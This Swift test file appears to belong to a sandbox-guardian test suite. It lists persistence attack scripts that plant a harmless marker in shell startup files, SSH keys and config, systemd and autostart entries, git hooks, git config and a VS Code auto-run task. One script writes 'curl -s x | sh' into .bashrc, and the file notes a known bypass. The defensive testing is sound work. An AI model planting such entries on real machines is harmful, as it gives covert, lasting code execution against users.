import Foundation
import GuardianTestSupport

/// Planting commands in files another program runs or obeys later, outside the session
/// (shared/THREATS.md: persistence). Each attack prints PLANTED only when its file holds the
/// plant afterwards.
extension Attack {
    static let persistence: [Attack] = [
        Attack(name: "persist-bashrc-append", script: #"""
            echo 'curl -s x | sh # MARK-P' >> "$HOME/.bashrc"; grep -q MARK-P "$HOME/.bashrc" && echo PLANTED
            """#, goal: .output("PLANTED"), evidence: .event),
        // Replacing the file by rename (what editors and sed -i do) instead of writing it.
        Attack(name: "persist-zshenv-rename", script: #"""
            printf 'MARK-P\n' > "$OUT/z"; mv -f "$OUT/z" "$HOME/.zshenv"; grep -q MARK-P "$HOME/.zshenv" && echo PLANTED
            """#, goal: .output("PLANTED"), evidence: .event),
        Attack(name: "persist-python-replace-profile", script: #"""
            python3 -c 'import os; p=os.environ["HOME"]+"/.profile"; open(p+".tmp","w").write("MARK-P\n"); os.replace(p+".tmp", p)'
            grep -q MARK-P "$HOME/.profile" && echo PLANTED
            """#, goal: .output("PLANTED"), evidence: .event),
        Attack(name: "persist-authorized-keys", script: #"""
            mkdir -p "$HOME/.ssh"; echo 'ssh-ed25519 AAAAC3 MARK-P' >> "$HOME/.ssh/authorized_keys"; grep -q MARK-P "$HOME/.ssh/authorized_keys" && echo PLANTED
            """#, goal: .output("PLANTED"), evidence: .event),
        Attack(name: "persist-ssh-config-proxycommand", script: #"""
            printf 'Host *\n  ProxyCommand sh -c "MARK-P"\n' >> "$HOME/.ssh/config"; grep -q MARK-P "$HOME/.ssh/config" && echo PLANTED
            """#, goal: .output("PLANTED"), evidence: .event),
        Attack(name: "persist-systemd-user-unit", script: #"""
            d="$HOME/.config/systemd/user"; mkdir -p "$d"; printf '[Service]\nExecStart=/bin/sh -c MARK-P\n' > "$d/agent.service"; grep -q MARK-P "$d/agent.service" && echo PLANTED
            """#, goal: .output("PLANTED"), evidence: .event),
        Attack(name: "persist-xdg-autostart", script: #"""
            d="$HOME/.config/autostart"; mkdir -p "$d"; printf '[Desktop Entry]\nExec=sh -c MARK-P\n' > "$d/a.desktop"; grep -q MARK-P "$d/a.desktop" && echo PLANTED
            """#, goal: .output("PLANTED"), evidence: .event),
        Attack(name: "persist-git-hook", script: #"""
            git init -q "$OUT/r"; printf '#!/bin/sh\necho MARK-P\n' > "$OUT/r/.git/hooks/post-checkout"; grep -q MARK-P "$OUT/r/.git/hooks/post-checkout" && echo PLANTED
            """#, goal: .output("PLANTED"), evidence: .event),
        Attack(name: "persist-git-config-fsmonitor", script: #"""
            git init -q "$OUT/r"; cd "$OUT/r"; git config core.fsmonitor 'sh -c MARK-P'; grep -q MARK-P .git/config && echo PLANTED
            """#, goal: .output("PLANTED"), evidence: .event),
        Attack(name: "persist-global-git-alias", script: #"""
            git config --global alias.st '!sh -c MARK-P'; grep -q MARK-P "$HOME/.gitconfig" && echo PLANTED
            """#, goal: .output("PLANTED"), evidence: .event),
        Attack(name: "persist-vscode-folderopen-task", script: #"""
            mkdir -p .vscode; printf '{"tasks":[{"label":"x","command":"MARK-P","runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json; grep -q MARK-P .vscode/tasks.json && echo PLANTED
            """#, goal: .output("PLANTED"), evidence: .event),
    ]

    /// Still open (docs/SECURITY.md): a direct write of a repository's `.git/config` by a program
    /// other than git. git writes that file itself for ordinary work (remotes, branches), and
    /// file rules cannot yet tell the writer apart; `git config KEY` is decided instead.
    static let persistenceBypasses: [Attack] = [
        Attack(name: "persist-git-config-direct-write", script: #"""
            git init -q "$OUT/r"; printf '[core]\n\tfsmonitor = sh -c MARK-P\n' >> "$OUT/r/.git/config"; grep -q MARK-P "$OUT/r/.git/config" && echo PLANTED
            """#, goal: .output("PLANTED"), evidence: .event),
    ]
}
